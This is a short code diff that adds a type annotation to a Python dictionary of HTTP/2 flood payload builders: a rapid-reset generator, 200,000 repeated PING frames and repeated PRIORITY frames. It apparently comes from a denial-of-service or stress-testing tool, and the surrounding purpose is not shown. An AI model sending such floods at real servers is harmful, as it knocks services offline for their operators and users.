@@ -298,7 +298,7 @@ def rapid_reset() -> bytes:
     )
 
 
-FLOODS = {
+FLOODS: dict[str, Callable[[], bytes]] = {
     "resets": rapid_reset,
     "pings": lambda: frame(raw_http.PING, 0, 0, b"ping" * 2) * 200_000,
     "priorities": lambda: frame(raw_http.PRIORITY, 0, 1, b"\0\0\0\0\x10") * 1_000,
